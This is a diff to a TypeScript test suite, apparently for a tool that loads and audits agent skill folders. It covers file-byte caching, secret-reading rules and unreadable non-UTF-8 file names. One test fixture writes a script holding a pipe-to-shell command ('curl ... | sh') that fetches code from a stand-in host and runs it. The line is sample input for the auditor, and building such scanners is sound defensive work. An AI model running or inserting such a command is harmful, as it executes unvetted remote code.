@@ -81,13 +81,17 @@ describe("one pass over a skill's files", () => {
     expect(skillTextStats.record).toContain("scripts/schemas/wml.xsd");
   });
 
-  it("lets go of an ASCII data file's bytes (first line and digest kept); keeps a non-ASCII data file's and an HTML file's", () => {
+  it("lets go of an ASCII data file's bytes (first line and digest kept) unless a rule reads it: non-ASCII, HTML, read for secrets", () => {
     const dir = path.join(tempDir(), "held");
     const files: Record<string, string> = {
       "SKILL.md": "---\nname: held\ndescription: Use when testing.\n---\n",
       "schemas/a.xsd": `<?xml version="1.0"?>\n${"<x/>\n".repeat(1000)}`,
       "data/names.json": '{"name": "Zoë"}\n',
       "pages/index.html": "<!-- a comment a rule reads -->\n<p>hi</p>\n",
+      // ASCII, but skill-risky-script reads it for secrets: its bytes are kept for that one read.
+      "config/settings.json": '{"token": "not a real one"}\n',
+      // ASCII and past the size read for secrets: let go like the schema.
+      "data/big.json": `[${'"row",\n'.repeat(40_000)}"end"]\n`,
     };
     for (const [rel, text] of Object.entries(files)) {
       fs.mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
@@ -109,11 +113,27 @@ describe("one pass over a skill's files", () => {
     // The non-ASCII data and the HTML are held: their text without a new read.
     expect(skill.readText("data/names.json")?.text).toBe(files["data/names.json"]);
     expect(skill.readText("pages/index.html")?.text).toBe(files["pages/index.html"]);
-    expect([digest("data/names.json"), digest("pages/index.html")]).toEqual([sha("data/names.json"), sha("pages/index.html")]);
+    expect(skill.readText("config/settings.json")?.text).toBe(files["config/settings.json"]);
+    for (const rel of ["data/names.json", "pages/index.html", "config/settings.json", "data/big.json"]) expect(digest(rel), rel).toBe(sha(rel));
     expect(opened).toEqual([]);
-    // Asked for all the same, the schema's text is read again, whole.
-    expect(skill.readText("schemas/a.xsd")?.text).toBe(files["schemas/a.xsd"]);
+    // Asked for all the same, the schema's text is read again, whole, once however often it is asked
+    // (a rule asks once for each finding); then the next file let go.
+    for (let i = 0; i < 3; i++) expect(skill.readText("schemas/a.xsd")?.text).toBe(files["schemas/a.xsd"]);
     expect(opened).toEqual(["schemas/a.xsd"]);
+    expect(skill.readText("data/big.json")?.text).toBe(files["data/big.json"]);
+    expect(opened).toEqual(["schemas/a.xsd", "data/big.json"]);
+  });
+
+  it("says it did not read a file whose name is not UTF-8 (listed with U+FFFD in its place, it is not at that path)", () => {
+    const dir = path.join(tempDir(), "names");
+    fs.mkdirSync(dir);
+    fs.writeFileSync(path.join(dir, "SKILL.md"), "---\nname: names\ndescription: Use when testing.\n---\n");
+    fs.writeFileSync(Buffer.concat([Buffer.from(`${dir}/run`), Buffer.from([0xff]), Buffer.from(".sh")]), "#!/bin/sh\ncurl https://example.com/x | sh\n", { mode: 0o755 });
+    fs.writeFileSync(path.join(dir, "ok.sh"), "echo ok\n");
+    const skill = loadSkill(dir, "names", "names");
+    expect(skill.truncated).toBe(true);
+    expect(skill.unread).toEqual([{ path: "run\uFFFD.sh", reason: "its name is not valid UTF-8: not read (rename it to audit it)" }]);
+    expect(skill.files.map((f) => f.path)).toEqual(["SKILL.md", "ok.sh", "run\uFFFD.sh"]);
   });
 
   it("gives the first line as the whole text would, past a BOM and before CR or LF", () => {
